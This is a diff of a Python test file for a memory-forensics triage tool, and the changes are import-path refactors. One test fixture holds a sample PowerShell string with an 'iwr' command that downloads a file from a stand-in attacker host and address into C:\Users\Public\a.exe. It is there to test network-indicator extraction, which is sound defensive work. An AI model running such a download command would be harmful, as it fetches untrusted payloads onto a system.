@@ -5,7 +5,7 @@ from __future__ import annotations
 import copy
 
 from test_images.memimage import CRADLE, build_memory_image
-from triage.collect.memory import link_task_processes
+from triage.correlate import link_task_processes
 from triage.records import Provenance, Stamp, TaskEvent
 from tests.memory.conftest import run_collector
 
@@ -113,7 +113,7 @@ def test_win7_taskeng_child_is_linked_by_exec_action(win7):
 
 
 def test_network_indicators_of_decoded_text():
-    from triage.collect.memory import network_indicators
+    from triage.parsers.task_processes import network_indicators
 
     text = ("$u='https://cdn.evil-updates.com/p.ps1?x=1'; iwr http://198.51.100.7:8080/a -OutFile C:\\Users\\Public\\a.exe; "
             "ping 10.0.0.300; Write-Host version 1.2.3.4.5")
@@ -122,7 +122,7 @@ def test_network_indicators_of_decoded_text():
 
 
 def test_cmd_wrapping_schtasks_and_the_schtasks_it_started_give_one_rebuilt_task():
-    from triage.collect.memory import task_creating_definitions
+    from triage.parsers.task_processes import task_creating_definitions
 
     def proc(pid, ppid, name, create, cmdline, seen_by=("pslist",)):
         return {"pid": pid, "ppid": ppid, "name": name, "create": create, "exit": None, "offset": 0x1000 + pid,
